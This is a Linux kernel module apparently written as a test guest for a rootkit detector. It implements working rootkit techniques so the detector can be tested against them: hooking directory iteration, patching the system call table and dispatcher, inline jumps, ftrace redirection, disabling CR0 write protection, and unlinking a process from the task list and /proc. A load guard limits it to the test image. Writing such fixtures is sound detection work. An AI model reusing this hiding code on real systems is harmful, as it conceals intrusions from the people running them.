// FOR THE GUEST OF THESE TESTS ONLY. What rootkits do to a kernel, as small as it can be, so that
// the tests can see whether it is found: hides the file "hidden_file" from directory listings, or a
// process from the task list. Refuses to load where the file /hodo-test-guest does not lie, which
// only these tests' initramfs has.
//
// insmod guest_hooks.ko variant=NAME, until rmmod, and with
//   pointer   simple_dir_operations.iterate_shared leads here
//   dispatch  so do sys_call_table[getdents64], and the jump to __x64_sys_getdents64 in
//             x64_sys_call (by which kernels since 6.9, and their stable branches, call system
//             calls)
//   start     dcache_readdir begins with a jump to here
//   ftrace    a callback of ftrace makes dcache_readdir go on here
//   process   pid=N is taken out of the task list, and out of /proc, for good
//   honest    nothing is hooked: a file in /proc that this module makes and reads itself
//   nested    nothing is hooked: while it is loaded the processor is interrupted, and the
//   interrupt's
//             handler has a page fault
#include <asm/asm.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/irq_work.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/sched/signal.h>
#include <linux/seq_file.h>
#include <linux/syscalls.h>

MODULE_LICENSE("Dual MIT/GPL");
MODULE_DESCRIPTION("Hooks for the guest of hodoscope's tests; of no use anywhere else");

static char* variant = "";
static int pid;
module_param(variant, charp, 0);
module_param(pid, int, 0);

#define CALL_SIZE 5  // of a call, jump or nop with a 32-bit displacement

// --- leaving the file out ---

struct filter {
  struct dir_context context;
  struct dir_context* asked;
};

static bool leave_out(struct dir_context* context, const char* name, int length, loff_t offset,
                      u64 inode, unsigned type) {
  struct filter* filter = container_of(context, struct filter, context);
  static const char hidden[] = "hidden_file";
  if (length == sizeof(hidden) - 1 && memcmp(name, hidden, length) == 0) return true;
  return filter->asked->actor(filter->asked, name, length, offset, inode, type);
}

typedef int (*iterate_function)(struct file*, struct dir_context*);
static iterate_function original;

static noinline int filtered_iterate(struct file* file, struct dir_context* context) {
  struct filter filter = {.context = {.actor = leave_out, .pos = context->pos}, .asked = context};
  int result = original(file, &filter.context);
  context->pos = filter.context.pos;
  return result;
}

// --- writing where nobody may ---

static struct change {
  void* at;
  u8 before[8];
  size_t size;
} changes[2];
static unsigned changed;

static void write_anywhere(void* at, const void* bytes, size_t size) {
  unsigned long flags, cr0;
  local_irq_save(flags);
  asm volatile("mov %%cr0, %0" : "=r"(cr0));
  asm volatile("mov %0, %%cr0" ::"r"(cr0 & ~X86_CR0_WP) : "memory");
  memcpy(at, bytes, size);
  asm volatile("mov %0, %%cr0" ::"r"(cr0) : "memory");
  local_irq_restore(flags);
}

static void overwrite(void* at, const void* bytes, size_t size) {
  struct change* change = &changes[changed++];
  *change = (struct change){.at = at, .size = size};
  memcpy(change->before, at, size);
  write_anywhere(at, bytes, size);
}

static void overwrite_jump(unsigned long at, unsigned long target) {
  u8 jump[CALL_SIZE] = {0xe9};
  s32 distance = (s32)(target - at - CALL_SIZE);
  memcpy(jump + 1, &distance, sizeof(distance));
  overwrite((void*)at, jump, sizeof(jump));
}

// --- the variants ---

static unsigned long address_of(const char* symbol) {
  // Disabled, so that it only looks its address up.
  struct kprobe probe = {.symbol_name = "kallsyms_lookup_name", .flags = KPROBE_FLAG_DISABLED};
  unsigned long (*look_up)(const char*);
  if (register_kprobe(&probe) != 0) return 0;
  look_up = (void*)probe.addr;
  unregister_kprobe(&probe);
  return look_up(symbol);
}

static int hook_pointer(void) {
  iterate_function hook = filtered_iterate;
  original = simple_dir_operations.iterate_shared;
  overwrite((void*)&simple_dir_operations.iterate_shared, &hook, sizeof(hook));
  return 0;
}

// As the system call does it, and then the file is cut out of what it wrote.
struct entry {
  u64 inode;
  s64 offset;
  u16 size;
  u8 type;
  char name[];
};

static long (*getdents64)(const struct pt_regs*);

static noinline long filtered_getdents64(const struct pt_regs* registers) {
  long size = getdents64(registers), kept = 0, at;
  char* bytes;
  if (size <= 0) return size;
  bytes = memdup_user((void __user*)registers->si, size);
  if (IS_ERR(bytes)) return size;
  for (at = 0; at < size;) {
    struct entry* entry = (struct entry*)(bytes + at);
    long length = entry->size;
    at += length;
    if (strcmp(entry->name, "hidden_file") == 0) continue;
    memmove(bytes + kept, entry, length);
    kept += length;
  }
  if (copy_to_user((void __user*)registers->si, bytes, kept)) kept = -EFAULT;
  kfree(bytes);
  return kept;
}

static int hook_dispatch(void) {
  unsigned long hook = (unsigned long)filtered_getdents64, at;
  unsigned long table = address_of("sys_call_table"), dispatch = address_of("x64_sys_call");
  getdents64 = (void*)address_of("__x64_sys_getdents64");
  if (!table || !dispatch || !getdents64) return -ENOENT;
  overwrite((void*)(table + __NR_getdents64 * sizeof(hook)), &hook, sizeof(hook));
  for (at = dispatch; at < dispatch + 0x2000; at++) {
    if (*(u8*)at != 0xe9 || at + CALL_SIZE + *(s32*)(at + 1) != (unsigned long)getdents64) continue;
    overwrite_jump(at, hook);
    return 0;
  }
  return -ENOENT;
}

static int hook_start(void) {
  // Behind the five bytes that ftrace keeps for itself.
  original = (iterate_function)((unsigned long)dcache_readdir + CALL_SIZE);
  overwrite_jump((unsigned long)dcache_readdir, (unsigned long)filtered_iterate);
  return 0;
}

static void notrace go_on_here(unsigned long ip, unsigned long parent, struct ftrace_ops* ops,
                               struct ftrace_regs* registers) {
  if (!within_module(parent, THIS_MODULE))
    ftrace_get_regs(registers)->ip = (unsigned long)filtered_iterate;
}

static struct ftrace_ops ops = {
    .func = go_on_here,
    .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static int hook_ftrace(void) {
  int error = ftrace_set_filter_ip(&ops, (unsigned long)dcache_readdir, 0, 0);
  original = dcache_readdir;
  return error ? error : register_ftrace_function(&ops);
}

static int hide_process(void) {
  struct task_struct* task = pid_task(find_vpid(pid), PIDTYPE_PID);
  if (!task) return -ESRCH;
  list_del_init(&task->tasks);
  hlist_del_init(&task->pid_links[PIDTYPE_TGID]);  // by which /proc lists processes
  return 0;
}

// In the hole at the end of the address space (Documentation/x86/x86_64/mm.rst).
#define NEVER_MAPPED (-0x10000L)

// Runs in the handler of an interrupt that the processor sends to itself.
static void fault_inside(struct irq_work* work) {
  long value;
  asm volatile("1: mov (%1), %0\n2:\n" _ASM_EXTABLE(1b, 2b) : "=r"(value) : "r"(NEVER_MAPPED));
}

static int nest(void) {
  static struct irq_work work;
  init_irq_work(&work, fault_inside);
  irq_work_queue(&work);
  irq_work_sync(&work);
  return 0;
}

static int show(struct seq_file* file, void* unused) {
  seq_puts(file, "an honest module\n");
  return 0;
}

static int __init start(void) {
  struct file* mark = filp_open("/hodo-test-guest", O_RDONLY, 0);
  if (IS_ERR(mark)) return -EPERM;
  filp_close(mark, NULL);
  if (strcmp(variant, "pointer") == 0) return hook_pointer();
  if (strcmp(variant, "dispatch") == 0) return hook_dispatch();
  if (strcmp(variant, "start") == 0) return hook_start();
  if (strcmp(variant, "ftrace") == 0) return hook_ftrace();
  if (strcmp(variant, "process") == 0) return hide_process();
  if (strcmp(variant, "nested") == 0) return nest();
  if (strcmp(variant, "honest") == 0)
    return proc_create_single("honest", 0, NULL, show) ? 0 : -ENOMEM;
  return -EINVAL;
}

static void __exit end(void) {
  while (changed > 0) {
    changed--;
    write_anywhere(changes[changed].at, changes[changed].before, changes[changed].size);
  }
  if (strcmp(variant, "ftrace") == 0) unregister_ftrace_function(&ops);
  if (strcmp(variant, "honest") == 0) remove_proc_entry("honest", NULL);
}

module_init(start);
module_exit(end);
